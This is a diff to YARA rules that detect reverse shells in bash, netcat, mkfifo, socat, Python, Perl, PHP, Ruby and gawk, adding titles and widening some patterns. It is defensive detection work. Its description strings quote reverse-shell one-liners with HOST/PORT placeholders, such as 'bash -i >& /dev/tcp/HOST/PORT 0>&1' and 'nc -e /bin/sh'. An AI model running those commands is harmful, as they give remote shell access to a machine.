@@ -7,6 +7,7 @@
 rule RevShell_Bash_DevTcp : reverse_shell
 {
     meta:
+        title = "bash /dev/tcp reverse shell"
         description = "a shell whose standard input and output are bash's /dev/tcp or /dev/udp pseudo-device (bash -i >& /dev/tcp/HOST/PORT 0>&1, exec N<>/dev/tcp/HOST/PORT with sh <&N >&N)"
         severity = "critical"
         attack = "T1059.004"
@@ -19,14 +20,16 @@ rule RevShell_Bash_DevTcp : reverse_shell
         $rw = /[0-9]{1,3}<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-:\[\]]{1,253}\/\d{1,5}/ ascii
         $fdsh = /sh\s+(-i\s*)?[0-9]?<&\s*[0-9]{1,3}\s*[0-9]?>&\s*[0-9]{1,3}/ ascii
         $loop = /while\s+read\s+\w{1,16}\s+0?<&\s*[0-9]{1,3}\s*;\s*do\s+\$\w{1,16}/ ascii
+        $loop2 = /do\s+\$\w{1,16}\s+2>&\s*[0-9]{1,3}\s*>&\s*[0-9]{1,3}/ ascii
 
     condition:
-        $shell or $stdin or ($rw and ($fdsh or $loop))
+        $shell or $stdin or ($rw and ($fdsh or $loop or $loop2))
 }
 
 rule RevShell_Netcat_Exec : reverse_shell
 {
     meta:
+        title = "netcat running a shell (nc -e)"
         description = "netcat or ncat told to run a shell for its peer (nc -e /bin/sh, ncat --exec, nc -c bash)"
         severity = "critical"
         attack = "T1059.004"
@@ -44,6 +47,7 @@ rule RevShell_Netcat_Exec : reverse_shell
 rule RevShell_Mkfifo_Pipe : reverse_shell
 {
     meta:
+        title = "named-pipe reverse shell (mkfifo | nc)"
         description = "a named-pipe reverse shell: mkfifo or mknod p, the pipe read by a shell whose output goes to nc, ncat, telnet or openssl s_client"
         severity = "critical"
         attack = "T1059.004"
@@ -66,6 +70,7 @@ rule RevShell_Mkfifo_Pipe : reverse_shell
 rule RevShell_Socat_Exec : reverse_shell
 {
     meta:
+        title = "socat reverse shell"
         description = "socat joining a network connection to a shell (socat TCP:HOST:PORT EXEC:'bash -li',pty,stderr,setsid)"
         severity = "critical"
         attack = "T1059.004"
@@ -83,6 +88,7 @@ rule RevShell_Socat_Exec : reverse_shell
 rule RevShell_Python_Socket : reverse_shell
 {
     meta:
+        title = "Python reverse shell"
         description = "a Python reverse shell: a socket connected out whose file descriptors are dup2'd onto 0, 1 and 2 before a shell or pty.spawn"
         severity = "critical"
         attack = "T1059.006"
@@ -104,7 +110,8 @@ rule RevShell_Python_Socket : reverse_shell
 rule RevShell_Perl_Socket : reverse_shell
 {
     meta:
-        description = "a Perl reverse shell: a socket connected out, STDIN/STDOUT/STDERR reopened onto it, then exec of a shell"
+        title = "Perl reverse shell"
+        description = "a Perl reverse shell: a socket connected out (socket/connect or IO::Socket::INET), STDIN/STDOUT/STDERR reopened onto it, then a shell or a command loop"
         severity = "critical"
         attack = "T1059"
         reference = "https://attack.mitre.org/techniques/T1059/"
@@ -118,14 +125,18 @@ rule RevShell_Perl_Socket : reverse_shell
         $open2 = /open\(\s*STDOUT\s*,\s*['"]>&/ ascii
         $fdopen = /STDIN->fdopen\(\s*\$\w{1,16}\s*,\s*r\s*\)/ ascii
         $exec = /(exec|system)\s*\(?\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh\b/ ascii
+        $sysloop = /system\s*\$_\s+while\s*<>/ ascii
 
     condition:
-        filesize < 4MB and any of ($sock*) and ($conn or $sock2) and ((all of ($open*)) or $fdopen) and $exec
+        filesize < 4MB and
+        ((any of ($sock*) and ($conn or $sock2) and all of ($open*) and $exec) or
+         ($sock2 and $fdopen and ($exec or $sysloop)))
 }
 
 rule RevShell_PHP_Socket : reverse_shell
 {
     meta:
+        title = "PHP reverse shell"
         description = "a PHP reverse shell: fsockopen or stream_socket_client followed by a shell on the socket's descriptor (exec(\"/bin/sh -i <&3 >&3 2>&3\"), proc_open with the socket as pipes)"
         severity = "critical"
         attack = "T1059"
@@ -146,6 +157,7 @@ rule RevShell_PHP_Socket : reverse_shell
 rule RevShell_Ruby_Socket : reverse_shell
 {
     meta:
+        title = "Ruby reverse shell"
         description = "a Ruby reverse shell: TCPSocket opened to a host whose descriptor feeds a shell (exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f), IO.popen on the socket)"
         severity = "critical"
         attack = "T1059"
@@ -166,6 +178,7 @@ rule RevShell_Ruby_Socket : reverse_shell
 rule RevShell_Awk_Inet : reverse_shell
 {
     meta:
+        title = "gawk /inet/tcp reverse shell"
         description = "a gawk reverse shell over its /inet/tcp special file with a remote host and port"
         severity = "high"
         attack = "T1059.004"
